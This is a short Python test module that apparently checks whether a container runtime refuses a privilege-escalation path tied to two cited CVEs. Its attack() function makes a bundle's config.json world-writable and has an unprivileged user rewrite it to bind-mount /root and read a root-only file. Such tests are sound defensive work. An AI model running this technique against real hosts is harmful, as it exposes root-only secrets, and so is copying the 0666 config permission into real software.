"""config.json has mode 0666, so that any user of the host writes what root's runtime will do."""

import json
import os

from bypass import refused

SOURCE = "CVE-2021-41103, CVE-2024-25621"
WAY = "state"
STOPPED = refused("bundle")


def attack(t):
    t.plant("/root/only-root", 0o600)
    os.chmod("/root", 0o755)
    t.lay("cat /x/only-root")
    os.chmod(t.bundle + "/config.json", 0o666)
    t.bind("/root", "/x")
    t.as_user(lambda: t.write(t.bundle + "/config.json", json.dumps(t.spec), None))
    t.create_by("create", "--bundle", t.bundle, "--pid-file", t.pid_file, t.id)
    t.start()
    return t.leaked(t.ended())
